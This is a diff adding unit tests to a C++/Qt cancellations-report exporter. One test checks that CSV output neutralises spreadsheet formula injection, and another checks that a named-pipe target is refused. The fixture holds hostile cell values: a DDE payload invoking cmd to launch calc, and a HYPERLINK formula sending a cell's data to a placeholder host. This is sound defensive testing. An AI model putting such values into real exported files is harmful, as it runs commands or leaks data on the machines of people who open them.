@@ -8,6 +8,7 @@
 #include <QLocale>
 #include <QTemporaryDir>
 #include <gtest/gtest.h>
+#include <sys/stat.h>
 
 #include "ComandoRelatorio.h"
 #include "ConsultaCancelamentos.h"
@@ -195,3 +196,54 @@ TEST_P(RelatorioTest, Screen)
 }
 
 KVP_INSTANTIATE_ENGINES(RelatorioTest);
+
+namespace {
+
+// A text a spreadsheet would run as a formula is written as plain text; the
+// numbers and the CSV quoting stay as they were.
+TEST(RelatorioCsv, TextoQueSeriaFormulaVaiComoTexto)
+{
+    TRelatorioCancelamentos r;
+    TCancelamento c;
+    c.Momento = QDateTime(QDate(2026, 12, 8), QTime(12, 0));
+    c.Filial = "0001";
+    c.Comanda = "-12";
+    c.DsComanda = "@SUM(A1:A9)";
+    c.Mesa = "+5";
+    c.Item = "000001";
+    c.Produto = "P1";
+    c.NomeProduto = "=HYPERLINK(\"http://x.example/?\"&A1;\"Clique\")";
+    c.QuantidadeMilesimos = 1500;
+    c.ValorCentavos = -702;
+    c.Operador = "\tOPER1";
+    c.Autorizador = "\r=1+1";
+    c.GrupoMotivo = "03";
+    c.Motivo = "-1+cmd|' /C calc'!A0";
+    r.Linhas << c;
+    const QStringList linhas = QString::fromUtf8(RelatorioEmCsv(r).mid(3)).split("\r\n");
+    ASSERT_EQ(linhas.size(), 3);
+    EXPECT_EQ(linhas[1], QStringLiteral("08/12/2026 12:00:00;0001;-12;'@SUM(A1:A9);'+5;000001;P1;"
+                                        "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1;\"\"Clique\"\")\";1,5;-7,02;"
+                                        "'\tOPER1;\"'\r=1+1\";03;'-1+cmd|' /C calc'!A0"));
+}
+
+// A target that is there and is not a regular file (a device, a pipe) is
+// refused with exit 1 and left as it was.
+TEST(RelatorioCsv, AlvoQueNaoEArquivoComumERecusado)
+{
+    QTemporaryDir pasta;
+    ASSERT_TRUE(pasta.isValid());
+    const QString fila = pasta.filePath("fila");
+    ASSERT_EQ(::mkfifo(QFile::encodeName(fila).constData(), 0600), 0);
+    EXPECT_EQ(ExecutaRelatorio({"--report", "--csv", fila}), 1);
+    QString erro;
+    EXPECT_FALSE(GravaRelatorioCsv(TRelatorioCancelamentos(), fila, erro));
+    EXPECT_TRUE(erro.contains("não é um arquivo comum")) << erro.toStdString();
+    struct stat st {};
+    ASSERT_EQ(::stat(QFile::encodeName(fila).constData(), &st), 0);
+    EXPECT_TRUE(S_ISFIFO(st.st_mode));
+    // A regular file is still written.
+    EXPECT_TRUE(GravaRelatorioCsv(TRelatorioCancelamentos(), pasta.filePath("certo.csv"), erro)) << erro.toStdString();
+}
+
+} // namespace
